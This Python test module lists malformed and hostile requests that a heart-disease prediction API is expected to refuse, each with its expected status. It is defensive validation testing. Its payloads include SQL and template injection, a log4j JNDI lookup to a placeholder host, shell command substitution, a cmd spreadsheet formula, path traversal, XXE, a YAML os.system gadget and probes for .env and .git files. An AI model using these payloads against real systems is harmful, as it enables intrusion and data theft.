"""Requests that a service of the data contract must refuse, each with the status of its refusal.

One fixed corpus, far larger than the dozen that an image is verified with.

Texts hold ``WORD`` and numbers ``NUMBER`` wherever they can, so that a sender can search answers
and logs for what they must not repeat. A service may repeat a name that looks like a misspelt
field, so no such name here holds either.
"""

import gzip
import json
from collections.abc import Iterable, Iterator, Mapping
from http import HTTPStatus
from typing import Final

from pipeline.dataset.contract import Field, Kind
from pipeline.image.refusals import JSON, MAXIMUM_BODY, Headers, Probe
from pipeline.serving.patients import MAXIMUM_PATIENTS, REQUIRED
from pipeline.table.contract import FIELDS

WORD: Final = "quetzal"
NUMBER: Final = 7_310_942
DEPTH: Final = 100_000
# Python reads integers of up to 4,300.
DIGITS: Final = 5_000
PAGES: Final = ("/info", "/livez", "/readyz", "/healthz", "/metrics", "/openapi.json")
METHODS: Final = ("GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND")

Bodies = Mapping[str, str | bytes]


def _object(members: Mapping[str, str]) -> str:
    """Return members that are JSON as an object: JSON can say more than Python can."""
    return "{" + ", ".join(f"{json.dumps(name)}: {value}" for name, value in members.items()) + "}"


def _list(items: Iterable[str]) -> str:
    return f"[{', '.join(items)}]"


# Every field at its lower limit.
LOWEST: Final = {field.name: f"{field.low:g}" for field in FIELDS}
PATIENT: Final = _object(LOWEST)


def _patient(name: str, value: str = f"{NUMBER}") -> str:
    return _object({**LOWEST, name: value})


# What goes wrong where a service stores, shows, logs or evaluates a text.
TEXTS: Final = {
    "SQL": f"'; DROP TABLE patients; -- {WORD}",
    "a template": f"{{{{ 7 * 7 }}}} {WORD}",
    "a lookup of log4j": f"${{jndi:ldap://{WORD}.example/a}}",
    "a format": f"%(message)s %n {{0}} {WORD}",
    "colours of a terminal": f"\x1b[31m{WORD}\x1b[0m",
    "a second header": f"{WORD}\r\nmodel-version: heart_disease/0",
    "a path": f"../../../../etc/{WORD}",
    "HTML": f"<script>{WORD}</script>",
    "a shell command": f"$(touch {WORD}); `{WORD}`",
    "a formula": f"=cmd|' /C {WORD}'!A1",
    "a null byte": f"{WORD}\0",
    "right to left": f"\u202e{WORD}",
    "a lone surrogate": f"{WORD}\ud800",
    "21,000 characters": WORD * 3_000,
}
UNKNOWN_FIELDS: Final = {
    "the target": "disease",
    "the target of the raw files": "num",
    "misspelt": "trestbp",
    "a capital": "Age",
    "capitals": "SEX",
    "a space": "chol ",
    "a Cyrillic letter": "\u0441hol",
    "wide letters": "\uff41\uff47\uff45",
    "empty": "",
    "a prototype": "__proto__",
    "a constructor": "constructor",
    "a class": "__class__",
    "an operator": "$where",
    "a reference": "$ref",
    "a dot": "age.value",
    "an element": "chol[]",
    "a pointer": "/age",
    **TEXTS,
}
# JSON in which there are no patients of the contract.
NO_PATIENTS: Final[Bodies] = {
    "an empty object": "{}",
    "an empty list": "[]",
    "a text": f'"{WORD}"',
    "a number": f"{NUMBER}",
    "a number beyond all": "1e999",
    "null": "null",
    "true": "true",
    "false": "false",
    "a list of numbers": f"[63, 1, {NUMBER}]",
    "a list of texts": f'["{WORD}"]',
    "a list of null": "[null]",
    "a list in a list": f"[[{PATIENT}]]",
    "rows of numbers": f"[[63, 1, {NUMBER}]]",
    "a patient and a number": f"[{PATIENT}, {NUMBER}]",
    "a patient and null": f"[{PATIENT}, null]",
    "a patient in a text": json.dumps(PATIENT),
    "a patient in an object": f'{{"patient": {PATIENT}}}',
    "patients in an object": f'{{"patients": [{PATIENT}]}}',
    "instances": f'{{"instances": [{PATIENT}]}}',
    "records of MLflow": f'{{"dataframe_records": [{PATIENT}]}}',
    "columns": _object({name: f"[{value}]" for name, value in LOWEST.items()}),
    "one patient too many": _list([PATIENT] * (MAXIMUM_PATIENTS + 1)),
    "as many numbers as patients": _list([f"{NUMBER}"] * MAXIMUM_PATIENTS),
    "100,000 numbers": _list([f"{NUMBER}"] * 100_000),
    "the last of many patients is wrong": _list(
        [*[PATIENT] * (MAXIMUM_PATIENTS - 1), _patient("age")]
    ),
    "every field is wrong": _object(dict.fromkeys(LOWEST, f"{NUMBER}")),
    "only an unknown field": f'{{"disease": {NUMBER}}}',
    "10,000 unknown fields": _object({f"field_{n}": f"{NUMBER}" for n in range(10_000)}),
    "100 lists in each other": "[" * 100 + f"{NUMBER}" + "]" * 100,
    "a number too small to be told from 0": _patient("age", f"{NUMBER}e-400"),
    **{f"a field: {name}": _patient(unknown) for name, unknown in UNKNOWN_FIELDS.items()},
    **{f"a value: {name}": _patient("chol", json.dumps(text)) for name, text in TEXTS.items()},
}
NO_JSON: Final[Bodies] = {
    "no body": "",
    "spaces": "   \r\n",
    "a null byte alone": "\0",
    "an object that does not end": PATIENT[:-1],
    "a list that does not end": f"[{PATIENT}",
    "a text that does not end": f'{{"age": "{WORD}',
    "a name that does not end": f'{{"{WORD}',
    "a word that does not end": '{"age": nul',
    "an escape that does not end": f'{{"age": "{WORD}\\u12"}}',
    "an escape that JSON does not know": f'{{"age": "{WORD}\\x41"}}',
    "a line break in a text": f'{{"age": "{WORD}\n"}}',
    "an escape character in a text": f'{{"age": "\x1b[31m{WORD}"}}',
    "garbage after the patient": f"{PATIENT} {WORD}",
    "a null byte after the patient": f"{PATIENT}\0",
    "two documents": PATIENT + PATIENT,
    "a document in each line": f"{PATIENT}\n{PATIENT}\n",
    "a comma before the end of an object": f"{PATIENT[:-1]},}}",
    "a comma before the end of a list": f"[{PATIENT},]",
    "a comment in a line": f"{PATIENT} // {WORD}",
    "a comment in a block": f"/* {WORD} */ {PATIENT}",
    "a comment after a hash": f"# {WORD}\n{PATIENT}",
    "single quotes": PATIENT.replace('"', "'"),
    "no quotes": PATIENT.replace('"', ""),
    "no commas": PATIENT.replace(",", ""),
    "no colons": PATIENT.replace(":", ""),
    "equals signs": PATIENT.replace(":", " ="),
    "NaN": "NaN",
    "NaN as a value": _patient("chol", "NaN"),
    "NaN in an unknown field": _patient("disease", "[NaN]"),
    "Infinity as a value": _patient("chol", "Infinity"),
    "-Infinity as a value": _patient("chol", "-Infinity"),
    "None as a value": _patient("chol", "None"),
    "True as a value": _patient("sex", "True"),
    "undefined as a value": _patient("chol", "undefined"),
    "a hexadecimal number": _patient("age", f"{NUMBER:#x}"),
    "a number after a zero": _patient("age", f"0{NUMBER}"),
    "a number after a plus sign": _patient("age", f"+{NUMBER}"),
    "a number with underscores": _patient("age", f"{NUMBER:_}"),
    "a number with a comma": _patient("oldpeak", "2,3"),
    "a number that begins with a dot": _patient("oldpeak", f".{NUMBER}"),
    "a number that ends with a dot": _patient("oldpeak", "1."),
    "a number without its exponent": _patient("oldpeak", "1e"),
    "a number in Arabic digits": _patient("age", "\u0666\u0663"),
    "an integer of 5,000 digits": _patient("age", f"{NUMBER}".ljust(DIGITS, "0")),
    "an integer of 5,000 digits below zero": _patient("age", f"-{NUMBER}".ljust(DIGITS, "0")),
    "a name twice": f'{PATIENT[:-1]}, "age": {NUMBER}}}',
    "a name twice with one value": f'{PATIENT[:-1]}, "age": {LOWEST["age"]}}}',
    "a name twice, once escaped": f'{PATIENT[:-1]}, "\\u0061ge": {NUMBER}}}',
    "a name twice in the second patient": f'[{PATIENT}, {PATIENT[:-1]}, "age": {NUMBER}}}]',
    "a name twice in a value": _patient("age", f'{{"{WORD}": 1, "{WORD}": 2}}'),
    "an unknown name twice": f'{PATIENT[:-1]}, "{WORD}": 1, "{WORD}": 2}}',
    "100,000 lists": "[" * DEPTH + "]" * DEPTH,
    "100,000 lists that do not end": "[" * DEPTH,
    "100,000 lists as a value": _patient("age", "[" * DEPTH + "]" * DEPTH),
    "100,000 objects": '{"a":' * DEPTH + f"{NUMBER}" + "}" * DEPTH,
    "100,000 objects that do not end": '{"a":' * DEPTH,
    "a byte order mark": PATIENT.encode("utf-8-sig"),
    "UTF-16": PATIENT.encode("utf-16"),
    "UTF-16 without a byte order mark": PATIENT.encode("utf-16-le"),
    "UTF-32": PATIENT.encode("utf-32"),
    "Latin-1": f'{{"\u00e2ge": "{WORD}"}}'.encode("latin-1"),
    "a slash in two bytes": b'{"age": "\xc0\xaf"}',
    "a surrogate in UTF-8": b'{"age": "\xed\xa0\x80"}',
    "half a character": b'{"age": "\xf0\x9f"}',
    "every byte": bytes(range(256)),
    "a compressed patient": gzip.compress(PATIENT.encode(), mtime=0),
    "a pickle": b"\x80\x04\x8c\x07quetzal\x94.",
    "XML": f'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///{WORD}">]><a>&b;</a>',
    "YAML": f"age: !!python/object/apply:os.system ['{WORD}']",
    "a row of a table": f"63,1,{NUMBER}",
    "a form": f"age={NUMBER}&sex=1",
    "a call": f"{WORD}({PATIENT})",
    "a prefix against inclusion": f")]}}',\n{PATIENT}",
}
TOO_LARGE: Final[Bodies] = {
    "1 MiB and 1 byte of spaces": " " * (MAXIMUM_BODY + 1),
    "1 MiB and 1 byte with a patient": PATIENT.ljust(MAXIMUM_BODY + 1),
    "more than 1 MiB of patients": _list([PATIENT] * 10_000),
    "more than 1 MiB of text": f'"{WORD * 150_000}"',
    "2 MiB of open lists": "[" * 2 * MAXIMUM_BODY,
}
PART: Final = f'--{WORD}\r\ncontent-disposition: form-data; name="age"\r\n\r\n{NUMBER}\r\n'
# The body, and how it is declared.
MEDIA_TYPES: Final = {
    "text/plain": PATIENT,
    "text/json": PATIENT,
    "*/*": PATIENT,
    "json": PATIENT,
    "": PATIENT,
    WORD: PATIENT,
    "application/jsonp": PATIENT,
    "application/problem+json": PATIENT,
    "application/x-ndjson": PATIENT,
    "application/json, text/plain": PATIENT,
    "application/json; charset=latin-1": PATIENT,
    "application/json; charset=utf-16": PATIENT,
    f"application/json; charset={WORD}": PATIENT,
    f"application/json; {WORD}={NUMBER}": PATIENT,
    "application/octet-stream": PATIENT,
    "application/x-pickle": "\x80\x04N.",
    "application/xml": f"<age>{NUMBER}</age>",
    "application/yaml": f"age: {NUMBER}",
    "text/csv": f"age,sex\n{NUMBER},1\n",
    "application/x-www-form-urlencoded": f"age={NUMBER}&sex=1",
    f"multipart/form-data; boundary={WORD}": f"{PART}--{WORD}--\r\n",
    f"multipart/form-data; boundary={NUMBER}": PART,
    "multipart/form-data": f"{PART}--{WORD}--\r\n",
}
ENCODINGS: Final = ("gzip", "deflate", "br", "zstd", "gzip, identity", WORD)
UNKNOWN_PATHS: Final = (
    *("/", "//", "/*", f"/{WORD}", f"/?{WORD}={NUMBER}"),
    # Almost a route.
    *("/info/", "//info", "/./info", "/INFO", "/info.json", "/info;v=1", "/info/info", "/metrics/"),
    *("/info%20", "/info%00", "/info%3Fa", "/info%2f", "/%2finfo", "/%252finfo", "/openapi.json/"),
    # What others have.
    *("/docs", "/redoc", "/admin", "/debug", "/version", "/ping", "/invocations", "/v1/models"),
    *("/v2/health/ready", "/favicon.ico", "/robots.txt", "/.env", "/.git/config"),
    *("/manifest.json", "/model/model.onnx", "/package/manifest.json"),
    # Out of the folder.
    *(f"/../../../../etc/{WORD}", f"/..%2f..%2fetc%2f{WORD}", f"/%2e%2e/%2e%2e/etc/{WORD}"),
    *(f"/..%5c..%5c{WORD}", f"/info/../../etc/{WORD}", f"/{WORD}/../info", f"/{WORD}/%2e%2e/info"),
    f"/file:///etc/{WORD}",
    # For whoever logs, shows or evaluates a path.
    *(f"/%0d%0amodel-version:%20{WORD}", f"/%1b%5b31m{WORD}", f"/%00{WORD}", f"/%ff%fe{WORD}"),
    *(f"/%{WORD}", f"/${{jndi:ldap://{WORD}.example/a}}", f"/{{{{7*7}}}}{WORD}"),
    *(f"/'%20OR%20'1'='1'--{WORD}", f"/<script>{WORD}</script>"),
    *(f"/{WORD * 1_000}", f"/{'a/' * 2_000}{WORD}"),
)
UNKNOWN_PATHS_OF_POST: Final = (
    *("/", "/predict/", "/predict%2f", "/predict%00", "/Predict", "/predict/1", "//predict"),
)


def _no_values(field: Field) -> Iterator[tuple[str, str]]:
    """Yield JSON that a field must not hold, after a name for it."""
    yield "just below the range", f"{field.low - 1:g}"
    yield "just above the range", f"{field.high + 1:g}"
    yield "far below the range", f"-{NUMBER}"
    yield "far above the range", f"{NUMBER}"
    yield "a text", f'"{WORD}"'
    yield "a number in quotes", f'"{field.low:g}"'
    yield "an empty text", '""'
    yield "true", "true"
    yield "false", "false"
    yield "a list", f"[{NUMBER}]"
    yield "an object", f'{{"$gt": {NUMBER}}}'
    yield "an integer of 400 digits", f"{NUMBER}".ljust(400, "0")
    yield "1e999", "1e999"
    yield "-1e999", "-1e999"
    if field.codes or field.kind is Kind.COUNT:
        yield "a fraction", f"{field.low:g}.{NUMBER}"
    for code in range(int(field.low), int(field.high)) if field.codes else ():
        if code not in field.codes:
            yield f"{code}, no code", f"{code}"
    if not field.nullable:
        yield "null", "null"


def _of_fields() -> dict[str, str]:
    """Return every patient in whom one field is wrong."""
    wrong = {
        f"{field.name}: {name}": _patient(field.name, value)
        for field in FIELDS
        for name, value in _no_values(field)
    }
    incomplete = {
        f"{name}: left out": _object({k: v for k, v in LOWEST.items() if k != name})
        for name in REQUIRED
    }
    return wrong | incomplete


def _bodies(status: HTTPStatus, bodies: Bodies) -> Iterator[Probe]:
    for name, body in bodies.items():
        yield Probe(name=name, body=_bytes(body), status=status)


def _bytes(body: str | bytes) -> bytes:
    return body.encode() if isinstance(body, str) else body


def _media_types() -> Iterator[Probe]:
    declared: dict[str, tuple[Headers, str]] = {
        f"content-type {kind!r}": ((("content-type", kind),), body)
        for kind, body in MEDIA_TYPES.items()
    }
    encoded: dict[str, tuple[Headers, str]] = {
        f"content-encoding {encoding!r}": ((*JSON, ("content-encoding", encoding)), PATIENT)
        for encoding in ENCODINGS
    }
    undeclared: dict[str, tuple[Headers, str]] = {
        "no content-type": ((), PATIENT),
        "no content-type and no body": ((), ""),
    }
    for name, (headers, body) in (declared | encoded | undeclared).items():
        yield Probe(
            name=name,
            headers=headers,
            body=body.encode(),
            status=HTTPStatus.UNSUPPORTED_MEDIA_TYPE,
        )


def _methods() -> Iterator[Probe]:
    wrong = [("/predict", method) for method in METHODS if method != "POST"]
    wrong += [(path, method) for path in PAGES for method in METHODS if method != "GET"]
    wrong += [(f"/predict?{WORD}={NUMBER}", "GET")]
    for path, method in wrong:
        body = b"" if method in {"GET", "TRACE"} else PATIENT.encode()
        yield Probe(
            name=f"{method} {path}",
            method=method,
            path=path,
            body=body,
            status=HTTPStatus.METHOD_NOT_ALLOWED,
        )


def _paths() -> Iterator[Probe]:
    status = HTTPStatus.NOT_FOUND
    for path in UNKNOWN_PATHS:
        yield Probe(name=f"GET {path[:60]}", method="GET", path=path, headers=(), status=status)
    for path in UNKNOWN_PATHS_OF_POST:
        yield Probe(name=f"POST {path}", path=path, body=PATIENT.encode(), status=status)


def _accepted() -> Iterator[Probe]:
    bodies: Bodies = {
        "the lowest values": PATIENT,
        "the highest values": _object({field.name: f"{field.high:g}" for field in FIELDS}),
        "codes as 1.0": _object({field.name: f"{field.low:.1f}" for field in FIELDS}),
        "exponents": _object({field.name: f"{field.low:e}" for field in FIELDS}),
        "-0": _object({**LOWEST, "sex": "-0", "fbs": "-0.0", "oldpeak": "-0e0"}),
        "null for what may be missing": _object(
            {**dict.fromkeys(LOWEST, "null"), **{n: LOWEST[n] for n in REQUIRED}}
        ),
        "what is required": _object({name: LOWEST[name] for name in REQUIRED}),
        "the fields in reverse": _object(dict(reversed(LOWEST.items()))),
        "an escaped name": PATIENT.replace("age", "\\u0061g\\u0065"),
        "spaces around the patient": f" \t\r\n{PATIENT}\r\n",
        "a list of one patient": f"[{PATIENT}]",
        "as many patients as are allowed": _list([PATIENT] * MAXIMUM_PATIENTS),
        "exactly 1 MiB": PATIENT.ljust(MAXIMUM_BODY),
    }
    yield from _bodies(HTTPStatus.OK, bodies)
    for kind in ("application/json;charset=utf-8", 'APPLICATION/JSON ; Charset="UTF-8"'):
        headers = (("content-type", kind),)
        yield Probe(name=kind, headers=headers, body=PATIENT.encode(), status=HTTPStatus.OK)


REFUSED: Final = (
    *_bodies(HTTPStatus.UNPROCESSABLE_ENTITY, _of_fields()),
    *_bodies(HTTPStatus.UNPROCESSABLE_ENTITY, NO_PATIENTS),
    *_bodies(HTTPStatus.BAD_REQUEST, NO_JSON),
    *_bodies(HTTPStatus.REQUEST_ENTITY_TOO_LARGE, TOO_LARGE),
    *_media_types(),
    *_methods(),
    *_paths(),
)
# What looks hostile and is not.
ACCEPTED: Final = (*_accepted(),)
